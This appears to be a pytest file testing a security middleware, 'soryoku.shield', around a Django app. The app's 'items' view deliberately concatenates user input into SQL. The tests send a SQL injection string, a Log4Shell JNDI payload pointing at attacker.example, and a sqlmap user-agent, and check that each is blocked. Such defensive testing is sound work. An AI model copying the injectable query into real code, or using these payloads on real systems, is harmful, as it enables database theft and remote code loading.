"""The Django recipe of docs/shield.md: ``protect(get_wsgi_application())``, settings configured here.

The app uses Django's own ORM connection (sqlite backend, a file), so a raw query built from
input reaches the sqlite3 sink through Django's cursor wrapper, and Django turns the block into a 500
that the middleware must still answer as 403.
"""

from __future__ import annotations

import json
import types
from collections.abc import Iterator
from typing import Any

import pytest

from soryoku.shield import ShieldConfig, protect

django = pytest.importorskip("django", reason="Django is not installed (it is in the dev extra)")
werkzeug_test = pytest.importorskip("werkzeug.test", reason="werkzeug is not installed (moto[server])")


def _views() -> types.ModuleType:
    from django.db import connection
    from django.http import HttpRequest, JsonResponse
    from django.urls import path

    def items(request: HttpRequest) -> JsonResponse:
        name = request.GET["name"]
        with connection.cursor() as cursor:
            cursor.execute(f"SELECT id FROM shop_items WHERE name = '{name}' ORDER BY id")
            return JsonResponse({"ids": [row[0] for row in cursor.fetchall()]})

    def search(request: HttpRequest) -> JsonResponse:
        name = json.loads(request.body)["name"]
        with connection.cursor() as cursor:
            cursor.execute("SELECT id FROM shop_items WHERE name = %s", [name])
            return JsonResponse({"ids": [row[0] for row in cursor.fetchall()]})

    urlconf = types.ModuleType("shield_django_urls")
    urlconf.urlpatterns = [path("items", items), path("items/search", search)]  # type: ignore[attr-defined]
    return urlconf


@pytest.fixture(scope="module")
def django_app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    from django.conf import settings

    if not settings.configured:
        settings.configure(
            DEBUG=False,
            SECRET_KEY="shield-test-only",
            ALLOWED_HOSTS=["*"],
            ROOT_URLCONF=_views(),
            INSTALLED_APPS=[],
            MIDDLEWARE=["django.middleware.common.CommonMiddleware"],
            DATABASES={
                "default": {
                    "ENGINE": "django.db.backends.sqlite3",
                    "NAME": str(tmp_path_factory.mktemp("django") / "shop.db"),
                }
            },
            LOGGING_CONFIG=None,
            USE_TZ=True,
        )
    from django.core.wsgi import get_wsgi_application

    application = get_wsgi_application()
    yield application


@pytest.fixture
def client(django_app: Any) -> Iterator[Any]:
    from django.db import connection

    app = protect(django_app, ShieldConfig(mode="block"))  # installs the sink hooks
    connection.close()  # the next query opens a connection through the hooked sqlite3.connect
    with connection.cursor() as cursor:
        cursor.execute("DROP TABLE IF EXISTS shop_items")
        cursor.execute("CREATE TABLE shop_items (id INTEGER, name TEXT)")
        cursor.executemany(
            "INSERT INTO shop_items VALUES (%s, %s)", [(1, "red shoes"), (2, "O'Brien boots"), (3, "%s")]
        )
    yield werkzeug_test.Client(app)
    connection.close()


def test_django_legitimate_requests_pass(client: Any) -> None:
    response = client.get("/items", query_string={"name": "red shoes"})
    assert (response.status_code, response.get_json()) == (200, {"ids": [1]})
    assert "x-soryoku-block" not in response.headers
    response = client.post("/items/search", json={"name": "O'Brien boots"})
    assert (response.status_code, response.get_json()) == (200, {"ids": [2]})
    # Without parameters Django runs the SQL as written: the hook must not turn %s into a placeholder.
    response = client.get("/items", query_string={"name": "%s"})
    assert (response.status_code, response.get_json()) == (200, {"ids": [3]})


def test_django_sink_block_becomes_403_not_500(client: Any) -> None:
    response = client.get("/items", query_string={"name": "x' OR '1'='1"})
    assert response.status_code == 403
    assert response.headers["x-soryoku-block"] == "sqli:token_structure"


def test_django_request_rules_block_before_the_view(client: Any) -> None:
    response = client.post("/items/search", json={"name": "${jndi:ldap://attacker.example/a}"})
    assert (response.status_code, response.headers["x-soryoku-block"]) == (403, "known_bad_inputs:log4shell")
    response = client.get("/items", query_string={"name": "red shoes"}, headers={"user-agent": "sqlmap/1.7"})
    assert response.status_code == 403
    assert response.headers["x-soryoku-block"] == "bot:security"
